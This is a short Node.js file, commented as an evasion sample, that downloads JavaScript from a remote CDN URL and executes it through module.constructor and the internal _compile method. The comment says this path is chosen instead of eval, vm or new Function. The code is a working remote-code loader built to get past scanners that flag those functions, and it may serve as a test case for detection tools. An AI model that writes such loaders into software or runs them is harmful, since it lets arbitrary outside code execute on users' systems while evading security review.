// Evasion: downloads JavaScript and runs it. The body fetched with https.get
// is compiled with Module.prototype._compile on a fresh module created from
// module.constructor, instead of eval / vm / new Function.
const https = require('https');

function loadPlugin(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      let src = '';
      res.setEncoding('utf8');
      res.on('data', (c) => { src += c; });
      res.on('end', () => {
        const M = module.constructor;
        const m = new M('plugin', module);
        m.paths = module.paths;
        m._compile(src, __dirname + '/plugin.js');
        resolve(m.exports);
      });
    }).on('error', reject);
  });
}

loadPlugin('https://plugins.example-cdn.com/latest/format.js').then((p) => console.log(Object.keys(p)));
